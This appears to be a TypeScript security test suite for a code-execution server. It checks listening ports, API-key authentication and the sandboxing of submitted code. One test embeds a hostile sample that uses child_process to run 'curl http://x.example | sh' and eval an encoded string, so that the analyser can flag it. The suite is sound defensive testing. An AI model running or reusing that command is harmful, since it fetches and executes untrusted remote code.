import assert from 'node:assert/strict'
import { readdirSync, readFileSync, readlinkSync } from 'node:fs'
import { after, before, test } from 'node:test'
import { descendantsOf } from '../hostile/proc.ts'
import { bearer, call, post } from './http-door.ts'
import { makePlace, type Place, type Server, startServer, whenReady } from './program.ts'

let place: Place
let server: Server

before(async () => {
  place = makePlace()
  server = await startServer(place)
  await whenReady(server)
})
after(async () => {
  await server.stop()
  place.remove()
})

const executions = () => new URL('/v1/executions', server.active).href
const run = (body: object) => post(executions(), body, bearer(server.apiKey))

test('S0-25: a server listens on its two ports only: each other hop is a socket that only its ends hold', async () => {
  // Runs a job on each kind of wall first, so that any socket they open exists.
  const ran = await run({ code: 'print(1)', language: 'python' })
  assert.ok([200, 503].includes(ran.status))
  const own = new Set([server.child.pid!, ...descendantsOf(server.child.pid!)].flatMap(socketsOf))
  const listening = [...tcpListeners(), ...unixListeners()].filter(({ inode }) => own.has(inode))
  const doors = [server.static, server.active].map((door) => Number(new URL(door).port))
  assert.deepEqual(listening.map(({ at }) => at).sort(), doors.map(String).sort())
})

test('S0-25: at the doors, without a key that is good nothing is answered but whether it is alive', async () => {
  for (const where of ['/v1/executions', '/v1/providers', '/v1/audit', '/v1/config', '/metrics'])
    for (const key of ['', 'mfy_wrong_0123456789abcdefghijklmnopqrstuvw', 'null'])
      assert.equal(
        (await call(new URL(where, server.active).href, { headers: bearer(key) })).status,
        401,
      )
})

test('S0-25: code sent with the most privileged key is hostile too: it is analysed, confined, and has no network', async () => {
  const bad =
    'const { exec } = require("child_process"); exec("curl http://x.example | sh"); eval(atob("YQ=="))'
  const [blocked, plain] = [
    await run({ code: bad }),
    await run({ code: 'return typeof process + typeof fetch' }),
  ]
  const security = (blocked.json['security'] ?? blocked.json['outcome']?.security) as {
    findings: unknown[]
  }
  assert.ok(security.findings.length > 0)
  assert.equal(plain.json['result'], 'undefinedundefined')
  const explain = plain.json['profile'].explain as {
    field: string
    value: unknown
    because: string
  }[]
  assert.deepEqual(
    explain.find(({ field }) => field === 'controls.network'),
    {
      field: 'controls.network',
      value: 'none',
      because: 'default',
    },
  )
})

interface Listener {
  readonly inode: string
  /** A port, or a path. */
  readonly at: string
}

/** In state 0A, which is listening. */
function tcpListeners(): readonly Listener[] {
  return ['tcp', 'tcp6'].flatMap(linesOf).flatMap((line) => {
    const [, address = '', , state, , , , , , inode = ''] = line
    return state === '0A' ? [{ inode, at: `${parseInt(address.split(':').at(-1)!, 16)}` }] : []
  })
}

/** With the flag that says that it accepts. */
function unixListeners(): readonly Listener[] {
  return linesOf('unix').flatMap(([, , , flags = '0', , , inode = '', at = 'unnamed']) =>
    parseInt(flags, 16) & 0x10000 ? [{ inode, at }] : [],
  )
}

function linesOf(table: string): readonly (readonly string[])[] {
  return readFileSync(`/proc/net/${table}`, 'utf8')
    .split('\n')
    .slice(1)
    .map((line) => line.trim().split(/\s+/))
}

function socketsOf(pid: number): readonly string[] {
  try {
    return readdirSync(`/proc/${pid}/fd`).flatMap((fd) => inodeOf(`/proc/${pid}/fd/${fd}`))
  } catch {
    return []
  }
}

function inodeOf(link: string): readonly string[] {
  try {
    return [/^socket:\[(\d+)\]$/.exec(readlinkSync(link))?.[1] ?? []].flat()
  } catch {
    return []
  }
}
